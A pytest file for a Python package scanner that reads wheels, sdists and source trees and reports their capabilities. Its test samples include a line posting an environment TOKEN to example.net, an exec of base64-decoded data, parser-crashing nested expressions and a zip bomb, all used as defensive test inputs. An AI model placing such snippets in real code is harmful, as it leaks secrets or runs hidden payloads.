"""The worker as it is, with real archives."""

from __future__ import annotations

import sys
import zipfile
from importlib.metadata import metadata

import pytest
from packaging.specifiers import SpecifierSet

from support.builders import make_sdist, make_tree, make_wheel
from support.pythons import PYTHONS, find_python
from veln_hook.errors import ArchiveError
from veln_hook.source.client import Scanner
from veln_hook.source.remembering import StoredFiles
from veln_hook.store.sqlite import SqliteStore

CODE = "import os, urllib.request\nurllib.request.urlopen('https://example.net', data=os.environ['TOKEN'])\n"
DEEP = {
    "brackets": "(" * 5000 + ")" * 5000,
    "minus": "-" * 20_000 + "1",
    "attributes": "a" + ".b" * 20_000,
    "calls": "a" + "()" * 20_000,
    "lambdas": "lambda:" * 20_000 + "1",
    "powers": "2**" * 30_000 + "2",
    "sum": "+".join(["'a'"] * 2000),
}


@pytest.fixture
def store():
    made = SqliteStore(":memory:")
    yield made
    made.close()


@pytest.fixture(params=PYTHONS)
def python(request, monkeypatch):
    found = find_python(request.param)
    if found is None:
        pytest.skip(f"Python {request.param} was not found on this machine")
    # The worker is given this environment's packaging, which need not be for that Python; then only
    # `nox -s full` reads there, with the unit tests of that Python.
    wanted = metadata("packaging")["Requires-Python"] or ""
    if request.param not in SpecifierSet(wanted):
        pytest.skip(f"the packaging that is installed here is for Python {wanted}")
    monkeypatch.setattr(sys, "executable", found)


@pytest.mark.usefixtures("python")
def test_wheels_sdists_and_trees_are_read(tmp_path):
    files = {"demo.py": CODE}
    with Scanner() as scanner:
        wheel = scanner.scan(str(make_wheel(tmp_path, "demo", "1.0", files)))
        sdist = scanner.scan(str(make_sdist(tmp_path, "demo", "1.0", files=files)))
        tree = scanner.scan(str(make_tree(tmp_path, "demo", "1.0", files=files)))
        assert scanner.started == 1
    assert (wheel.kind, sdist.kind) == ("wheel", "sdist")
    for facts in (wheel, sdist, tree):
        assert any("demo.py" in each.path for each in facts.capabilities)


@pytest.mark.usefixtures("python")
def test_code_that_is_made_to_break_a_parser_breaks_nothing(tmp_path):
    with Scanner() as scanner:
        for name, text in DEEP.items():
            files = {"demo.py": f"import subprocess, base64\nexec(base64.b64decode(x))\nx = {text}\n"}
            assert scanner.scan(str(make_wheel(tmp_path / name, "demo", "1.0", files))).files
        assert scanner.started == 1


def test_a_file_that_did_not_change_is_not_read_again(tmp_path, store):
    changed = {"same.py": CODE, "changed.py": CODE + "\nimport socket\n"}
    asked = []

    class Noting(StoredFiles):
        def known(self, sha256s):
            found = super().known(sha256s)
            asked.append((len(sha256s), len(found)))
            return found

    with Scanner(Noting(store)) as scanner:
        first = scanner.scan(str(make_wheel(tmp_path, "demo", "1.0", {"same.py": CODE, "changed.py": ""})))
        scanner.scan(str(make_wheel(tmp_path, "demo", "2.0", changed)))
        again = scanner.scan(str(make_wheel(tmp_path, "demo", "3.0", {"same.py": CODE, "changed.py": ""})))
    assert asked == [(2, 0), (2, 1), (2, 2)]
    assert again.capabilities == first.capabilities


def test_what_is_no_archive_is_about_itself(tmp_path):
    broken = tmp_path / "demo-1.0-py3-none-any.whl"
    broken.write_text("<html>")
    bomb = tmp_path / "demo-2.0-py3-none-any.whl"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("demo.py", b"#" * (200 << 20))
    with Scanner() as scanner:
        for path in (broken, bomb, tmp_path / "absent"):
            try:
                facts = scanner.scan(str(path))
            except ArchiveError:
                continue
            assert facts.problems
        assert scanner.scan(str(make_wheel(tmp_path, "demo", "3.0"))).files
